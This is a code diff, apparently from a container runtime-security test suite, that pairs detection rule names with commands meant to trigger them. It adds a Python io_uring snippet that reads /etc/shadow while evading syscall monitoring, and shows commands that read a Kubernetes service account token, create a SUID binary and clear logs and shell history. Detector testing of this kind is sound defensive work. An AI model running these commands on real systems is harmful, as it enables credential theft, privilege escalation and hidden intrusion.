@@ -12,6 +12,18 @@ const listener = (port: number): string =>
 const resolver =
   'import socket;s=socket.socket(2,2);s.bind(("127.0.0.1",53));s.settimeout(3)\nfor i in range(2):\n d,a=s.recvfrom(512);e=d.index(0,12)+5;s.sendto(d[:2]+b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0"+d[12:e]+b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4\\x7f\\0\\0\\5",a)';
 
+/** Opens a file through io_uring: a ring with one request, which the kernel follows without a call for it. */
+const throughRing = [
+  'import ctypes,mmap,struct',
+  'l=ctypes.CDLL(None);p=ctypes.create_string_buffer(120);f=l.syscall(425,4,p)',
+  'at=lambda n:struct.unpack_from("I",p,40+n)[0]',
+  'q=mmap.mmap(f,4096,offset=0);e=mmap.mmap(f,4096,offset=0x10000000)',
+  'b=ctypes.create_string_buffer(b"/etc/shadow")',
+  'e[0:48]=struct.pack("BBHiQQIIQQ",18,0,0,-100,0,ctypes.addressof(b),0,0,1,0)',
+  'i=at(24);q[i:i+4]=struct.pack("I",0);i=at(4);q[i:i+4]=struct.pack("I",1)',
+  'l.syscall(426,f,1,1,1,None,0)',
+].join('\n');
+
 /** For containers that are not privileged. */
 export const plainTechniques: readonly Technique[] = [
   { rule: 'Service account token read', command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
@@ -32,6 +44,7 @@ export const plainTechniques: readonly Technique[] = [
   { rule: 'Root changed to a folder of the node', command: 'chroot /mnt true' },
   { rule: 'Known way to root tried', command: 'pkexec' },
   { rule: 'Program given the rights of its owner', command: 'cp /bin/true /tmp/suid; chmod u+s /tmp/suid' },
+  { rule: 'Calls hidden in io_uring', command: python(throughRing) },
   { rule: 'Logs cleared', command: ': > /var/log/auth.log' },
   { rule: 'Logs cleared', command: 'rm /var/log/app.log' },
   { rule: 'History of commands cleared', command: 'rm /root/.bash_history' },
